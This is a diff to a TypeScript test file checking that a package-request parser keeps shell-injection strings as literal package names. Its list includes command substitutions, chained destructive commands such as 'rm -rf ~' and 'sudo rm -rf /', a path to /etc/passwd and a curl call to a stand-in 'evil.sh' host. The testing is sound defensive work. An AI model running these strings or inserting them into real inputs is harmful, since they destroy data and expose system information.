@@ -8,7 +8,7 @@ import { isMutating } from "../../src/domain/Intent.js"
 import { parseRequest } from "../../src/domain/parse/parseRequest.js"
 
 const hostile = [
-  "install $(whoami)", "install `id`", "install firefox; rm -rf ~", "install firefox && reboot",
+  "install $(whoami)", "install `$(id)`", "install `id; rm -rf ~`", "install firefox; rm -rf ~", "install firefox && reboot",
   "install firefox | tee log", "install --option foo bar", "install -f evil.nix", "install ../../etc/passwd",
   "remove ${HOME}", "install firefox > /dev/null", "install firefox < input", "update $(curl evil.sh)",
   "try cowsay; reboot", "give me a shell with python3; rm -rf /", "rm -rf ~", "sudo rm -rf /",
@@ -26,7 +26,7 @@ describe("hostile words", () => {
 
   it("keeps the hostile word exactly as written", () => {
     expect(parseRequest("install $(whoami)").intent).toMatchObject({ _tag: "install", packages: ["$(whoami)"] })
-    expect(parseRequest("install `id`").intent).toMatchObject({ packages: ["`id`"] })
+    expect(parseRequest("install `$(id)`").intent).toMatchObject({ packages: ["`$(id)`"] })
   })
 
   it("pasted shell prompts and quotes around names are fine", () => {
